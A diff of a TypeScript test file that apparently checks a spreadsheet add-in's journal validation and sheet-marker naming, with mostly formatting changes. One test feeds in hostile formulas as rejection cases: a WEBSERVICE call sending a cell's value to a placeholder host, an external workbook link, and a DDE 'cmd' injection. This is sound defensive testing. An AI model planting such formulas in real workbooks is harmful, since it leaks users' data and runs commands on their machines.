@@ -1,7 +1,12 @@
 // A journal is data inside the user's workbook: 撤销 / 清除标记 act only on entries that look like
 // what juesuan writes.
 import {
-  JournalRejectedError, assertJournalEntriesUsable, createdSheetMarkerReference, journalEntryProblem, markedSheets, nextCreatedSheetMarkerName,
+  JournalRejectedError,
+  assertJournalEntriesUsable,
+  createdSheetMarkerReference,
+  journalEntryProblem,
+  markedSheets,
+  nextCreatedSheetMarkerName,
   rangeAddresses,
 } from '../../../src/core/plan';
 import type { JournalEntry } from '../../../src/core/plan';
@@ -44,7 +49,8 @@ describe('journalEntryProblem', () => {
   });
 
   test('formulas reaching outside the workbook, and text a host could turn into one', () => {
-    const bad = (value: JournalEntry['cells'][number]['value']) => journalEntryProblem(entry({ cells: [{ sheet: '表1', address: 'B2', value }] }), []);
+    const bad = (value: JournalEntry['cells'][number]['value']) =>
+      journalEntryProblem(entry({ cells: [{ sheet: '表1', address: 'B2', value }] }), []);
     expect(bad({ formula: 'WEBSERVICE("http://x/?"&A1)' })).toMatch(/公式/);
     expect(bad({ formula: '[1]Sheet1!A1' })).toMatch(/公式/);
     expect(bad({ formula: "cmd|' /c calc'!A0" })).toMatch(/公式/);
@@ -57,12 +63,19 @@ describe('journalEntryProblem', () => {
 
 test('assertJournalEntriesUsable throws a Chinese message naming the journal sheet', () => {
   expect(() => assertJournalEntriesUsable([entry({ createdSheets: ['表1'] })], [], '撤销')).toThrow(JournalRejectedError);
-  expect(() => assertJournalEntriesUsable([entry({ createdSheets: ['表1'] })], [], '撤销')).toThrow(/_juesuan_journal.*无法安全地撤销.*没有做任何修改/);
+  expect(() => assertJournalEntriesUsable([entry({ createdSheets: ['表1'] })], [], '撤销')).toThrow(
+    /_juesuan_journal.*无法安全地撤销.*没有做任何修改/,
+  );
 });
 
 test('marker names round trip, quotes included', () => {
   const ref = createdSheetMarkerReference("部门 决算's");
-  expect(markedSheets([{ name: '_juesuan_created_1', reference: ref }, { name: 'Other', reference: "'表1'!$A$1" }])).toEqual(["部门 决算's"]);
+  expect(
+    markedSheets([
+      { name: '_juesuan_created_1', reference: ref },
+      { name: 'Other', reference: "'表1'!$A$1" },
+    ]),
+  ).toEqual(["部门 决算's"]);
   expect(markedSheets([{ name: '_juesuan_created_2', reference: '=补充信息!$A$1' }])).toEqual(['补充信息']);
   expect(nextCreatedSheetMarkerName(['_juesuan_created_1', '_JUESUAN_CREATED_2'])).toBe('_juesuan_created_3');
 });
